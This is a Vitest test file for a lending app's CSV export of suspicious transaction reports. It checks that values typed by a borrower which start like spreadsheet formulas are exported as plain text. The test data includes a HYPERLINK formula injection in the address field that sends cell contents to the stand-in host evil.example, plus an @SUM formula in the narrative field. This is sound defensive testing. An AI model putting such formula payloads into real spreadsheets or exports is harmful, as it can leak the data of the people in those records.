import { describe, expect, it } from 'vitest';
import { STR_REASONS } from '@pisonow/domain';
import { strFormat, type StrRecord } from './str-format.ts';

describe('the STR file for the AMLC (BE-14)', () => {
  it('BE-14 a borrower-typed address that starts like a formula is exported as text', () => {
    const record: StrRecord = {
      reportingEntity: {
        name: 'PisoNow Lending Corp.',
        secRegistrationNo: 'CS0000',
        certificateOfAuthorityNo: '0000',
      },
      case: {
        id: 'case-1',
        status: 'open',
        determinedOn: '2027-05-03',
        deadline: '2027-05-10',
        filingReference: null,
      },
      subject: {
        customerId: 'c-1',
        lastName: 'Santos',
        firstName: 'Ana',
        middleName: '',
        birthDate: '1990-01-01',
        phone: '+639171234567',
        address: '=HYPERLINK("http://evil.example/?"&A2,"open"), Makati',
        idType: 'UMID',
        idNumber: '0111-2222333-4',
      },
      transactions: [],
      reason: STR_REASONS[0]!,
      narrative: '@SUM(1+1) structured deposits',
    };
    const cells = strFormat.csv(record).split('\r\n')[1]!;
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""open""), Makati"`);
    expect(cells).toContain(`'@SUM(1+1) structured deposits`);
    expect(cells).not.toMatch(/(^|,)"?[=@]/);
    expect(cells).toContain(',+639171234567,'); // the phone stays a phone
  });
});
